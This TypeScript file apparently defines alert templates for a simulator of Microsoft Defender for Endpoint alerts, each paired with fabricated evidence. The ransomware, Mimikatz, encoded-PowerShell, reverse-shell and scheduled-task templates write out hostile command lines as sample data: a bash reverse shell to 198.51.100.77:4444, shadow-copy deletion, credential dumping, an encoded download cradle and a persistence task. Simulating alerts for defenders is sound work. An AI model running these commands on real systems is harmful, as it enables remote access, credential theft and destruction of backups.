import type { MdeEvidence, MdeSeverity } from '../model/mde-types';
import { hashInt, sha1Hex, sha256Hex } from './mde-ids';
import { toMdeTime } from './mde-time';

/** What a template's evidence is built from. */
export interface EvidenceContext {
  /** Short host name of the alert's machine, e.g. `fin-ws-001`. */
  readonly host: string;
  /** The related user's account name, e.g. `alice`. */
  readonly userName: string;
  readonly timeMs: number;
}

/** An evidence item before the keys it does not use are filled with null. */
export type EvidenceDraft = Partial<MdeEvidence> & Pick<MdeEvidence, 'entityType'>;

/** A kind of alert MDE raises: the estate, the alert raiser and `POST /_sim/mde/alerts` draw on these. */
export interface AlertTemplate {
  readonly key: string;
  readonly title: string;
  /** `{host}` and `{user}` are replaced by the machine's short name and the related user. */
  readonly description: string;
  readonly severity: MdeSeverity;
  readonly category: string;
  readonly detectionSource: string;
  readonly threatFamilyName: string | null;
  readonly threatName: string | null;
  readonly mitreTechniques: readonly string[];
  /** Which machines it fits; default any. */
  readonly platform?: 'windows' | 'unix';
  /** The evidence besides the related user's User item. */
  readonly evidence: (ctx: EvidenceContext) => EvidenceDraft[];
}

function file(name: string, path: string, status: string): EvidenceDraft {
  return {
    entityType: 'File',
    fileName: name,
    filePath: path,
    sha1: sha1Hex(`file:${name}`),
    sha256: sha256Hex(`file:${name}`),
    detectionStatus: status,
  };
}

interface ProcessDraft {
  readonly name: string;
  readonly path: string;
  readonly commandLine: string;
  readonly parentName: string;
  readonly parentPath: string;
  readonly status?: string;
}

function processEvidence(p: ProcessDraft, ctx: EvidenceContext): EvidenceDraft {
  const pid = 1000 + (hashInt(`${ctx.host}:${p.name}:${ctx.timeMs}`) % 30_000);
  return {
    ...file(p.name, p.path, p.status ?? 'Detected'),
    entityType: 'Process',
    processId: pid,
    processCommandLine: p.commandLine,
    processCreationTime: toMdeTime(ctx.timeMs - 90_000),
    parentProcessId: 500 + (pid % 400),
    parentProcessCreationTime: toMdeTime(ctx.timeMs - 600_000),
    parentProcessFileName: p.parentName,
    parentProcessFilePath: p.parentPath,
  };
}

const downloads = (ctx: EvidenceContext) => `C:\\Users\\${ctx.userName}\\Downloads`;

// The templates below are written from MDE's public alert titles and MITRE ATT&CK technique ids.
export const ALERT_TEMPLATES: readonly AlertTemplate[] = [
  {
    key: 'ransomware',
    title: 'Ransomware behavior detected in the file system',
    description:
      'A process on {host} encrypted many files in a short time and deleted volume shadow copies. This behavior is typical of ransomware such as LockBit. Isolate the device, then investigate the process tree and the account {user}.',
    severity: 'High',
    category: 'Ransomware',
    detectionSource: 'WindowsDefenderAv',
    threatFamilyName: 'LockBit',
    threatName: 'Ransom:Win32/LockBit.A',
    mitreTechniques: ['T1486', 'T1490', 'T1059.003'],
    platform: 'windows',
    evidence: (ctx) => [
      file('invoice_0423.exe', downloads(ctx), 'Detected'),
      processEvidence(
        {
          name: 'vssadmin.exe',
          path: 'C:\\Windows\\System32',
          commandLine: 'vssadmin.exe delete shadows /all /quiet',
          parentName: 'invoice_0423.exe',
          parentPath: downloads(ctx),
        },
        ctx,
      ),
    ],
  },
  {
    key: 'mimikatz',
    title: 'Mimikatz credential theft tool',
    description:
      'The Mimikatz credential theft tool was detected on {host} under the account {user}. Mimikatz reads plaintext passwords, NTLM hashes and Kerberos tickets from LSASS memory; attackers use them to move laterally.',
    severity: 'High',
    category: 'CredentialAccess',
    detectionSource: 'WindowsDefenderAv',
    threatFamilyName: 'Mimikatz',
    threatName: 'HackTool:Win32/Mimikatz.D',
    mitreTechniques: ['T1003', 'T1003.001'],
    platform: 'windows',
    evidence: (ctx) => [
      file('mimikatz.exe', 'C:\\ProgramData\\temp', 'Detected'),
      processEvidence(
        {
          name: 'mimikatz.exe',
          path: 'C:\\ProgramData\\temp',
          commandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
          parentName: 'cmd.exe',
          parentPath: 'C:\\Windows\\System32',
        },
        ctx,
      ),
    ],
  },
  {
    key: 'encoded-powershell',
    title: 'Suspicious PowerShell command line',
    description:
      'A hidden PowerShell process on {host} ran a Base64-encoded command that downloads and runs a script. Attackers use encoded commands to avoid detection. The parent process was a Word document opened by {user}.',
    severity: 'Medium',
    category: 'Execution',
    detectionSource: 'WindowsDefenderAtp',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1059.001', 'T1027', 'T1204.002'],
    platform: 'windows',
    evidence: (ctx) => [
      processEvidence(
        {
          name: 'powershell.exe',
          path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
          commandLine:
            'powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
          parentName: 'WINWORD.EXE',
          parentPath: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
        },
        ctx,
      ),
      { entityType: 'Url', url: 'http://cdn-updates.example.net/stage2.ps1', detectionStatus: 'Detected' },
    ],
  },
  {
    key: 'cmd-recon',
    title: 'Suspicious behavior by cmd.exe was observed',
    description:
      'cmd.exe on {host} ran several discovery commands in quick succession (whoami, net group, nltest). This can be an administrator at work or an attacker mapping the domain.',
    severity: 'Low',
    category: 'SuspiciousActivity',
    detectionSource: 'WindowsDefenderAtp',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1059.003', 'T1087.002', 'T1482'],
    platform: 'windows',
    evidence: (ctx) => [
      processEvidence(
        {
          name: 'cmd.exe',
          path: 'C:\\Windows\\System32',
          commandLine: 'cmd.exe /c whoami /all & net group "Domain Admins" /domain & nltest /domain_trusts',
          parentName: 'explorer.exe',
          parentPath: 'C:\\Windows',
        },
        ctx,
      ),
    ],
  },
  {
    key: 'unwanted-software',
    title: "'Presenoker' unwanted software was detected",
    description:
      "Microsoft Defender Antivirus found and blocked 'Presenoker', a potentially unwanted application, on {host}. No further action is usually needed.",
    severity: 'Informational',
    category: 'Malware',
    detectionSource: 'WindowsDefenderAv',
    threatFamilyName: 'Presenoker',
    threatName: 'PUA:Win32/Presenoker',
    mitreTechniques: [],
    platform: 'windows',
    evidence: (ctx) => [file('free_pdf_converter_setup.exe', downloads(ctx), 'Prevented')],
  },
  {
    key: 'remote-service',
    title: 'Suspicious service creation by a remote session',
    description:
      'A service (PSEXESVC) was created on {host} from a remote session of {user}. Attackers install services remotely to run code on other machines (PsExec-style lateral movement).',
    severity: 'Medium',
    category: 'LateralMovement',
    detectionSource: 'WindowsDefenderAtp',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1021.002', 'T1569.002', 'T1543.003'],
    platform: 'windows',
    evidence: (ctx) => [
      processEvidence(
        {
          name: 'PSEXESVC.exe',
          path: 'C:\\Windows',
          commandLine: 'C:\\Windows\\PSEXESVC.exe',
          parentName: 'services.exe',
          parentPath: 'C:\\Windows\\System32',
        },
        ctx,
      ),
      {
        entityType: 'Registry',
        registryKey: 'SYSTEM\\CurrentControlSet\\Services\\PSEXESVC',
        registryHive: 'HKEY_LOCAL_MACHINE',
        registryValueType: 'ExpandString',
        registryValue: '%SystemRoot%\\PSEXESVC.exe',
        detectionStatus: 'Detected',
      },
    ],
  },
  {
    key: 'reverse-shell',
    title: 'Possible reverse shell detected',
    description:
      'A shell on {host} redirected its input and output to a network connection to an external address, a common way to give an attacker interactive access.',
    severity: 'Medium',
    category: 'CommandAndControl',
    detectionSource: 'WindowsDefenderAtp',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1059.004', 'T1071.001'],
    platform: 'unix',
    evidence: (ctx) => [
      processEvidence(
        {
          name: 'bash',
          path: '/usr/bin',
          commandLine: 'bash -i >& /dev/tcp/198.51.100.77/4444 0>&1',
          parentName: 'php-fpm8.1',
          parentPath: '/usr/sbin',
        },
        ctx,
      ),
      { entityType: 'Ip', ipAddress: '198.51.100.77', detectionStatus: 'Detected' },
    ],
  },
  {
    key: 'scheduled-task',
    title: 'Suspicious Task Scheduler activity',
    description:
      'A scheduled task that runs a script from a user-writable folder every hour was created on {host} by {user}. Attackers use scheduled tasks to persist.',
    severity: 'Medium',
    category: 'Persistence',
    detectionSource: 'WindowsDefenderAtp',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1053.005'],
    platform: 'windows',
    evidence: (ctx) => [
      processEvidence(
        {
          name: 'schtasks.exe',
          path: 'C:\\Windows\\System32',
          commandLine: `schtasks.exe /create /sc hourly /tn "OneDrive Sync Helper" /tr "wscript.exe C:\\Users\\${ctx.userName}\\AppData\\Roaming\\sync.vbs"`,
          parentName: 'wscript.exe',
          parentPath: 'C:\\Windows\\System32',
        },
        ctx,
      ),
    ],
  },
  {
    key: 'custom-indicator',
    title: 'Connection to a custom network indicator',
    description:
      '{host} connected to a domain on your custom indicator list (malicious-updates.example.com). Review the process that made the connection.',
    severity: 'Medium',
    category: 'CommandAndControl',
    detectionSource: 'CustomerTI',
    threatFamilyName: null,
    threatName: null,
    mitreTechniques: ['T1071.001'],
    evidence: () => [
      { entityType: 'Url', url: 'https://malicious-updates.example.com/check', detectionStatus: 'Detected' },
      { entityType: 'Ip', ipAddress: '203.0.113.66', detectionStatus: 'Detected' },
    ],
  },
  {
    key: 'emotet',
    title: "'Emotet' malware was prevented",
    description:
      "Microsoft Defender Antivirus stopped 'Emotet', a banking trojan and malware loader, on {host} before it ran. It arrived as an e-mail attachment opened by {user}.",
    severity: 'Low',
    category: 'Malware',
    detectionSource: 'WindowsDefenderAv',
    threatFamilyName: 'Emotet',
    threatName: 'Trojan:Win32/Emotet.ARJ!MTB',
    mitreTechniques: ['T1566.001', 'T1204.002'],
    platform: 'windows',
    evidence: (ctx) => [
      file(
        'Scan_2024_0415.doc',
        `C:\\Users\\${ctx.userName}\\AppData\\Local\\Microsoft\\Windows\\INetCache`,
        'Prevented',
      ),
    ],
  },
];

/** A template by key; throws for an unknown key (the keys are the simulator's own). */
export function alertTemplate(key: string): AlertTemplate {
  const template = ALERT_TEMPLATES.find((t) => t.key === key);
  if (!template) throw new Error(`no alert template ${key}`);
  return template;
}
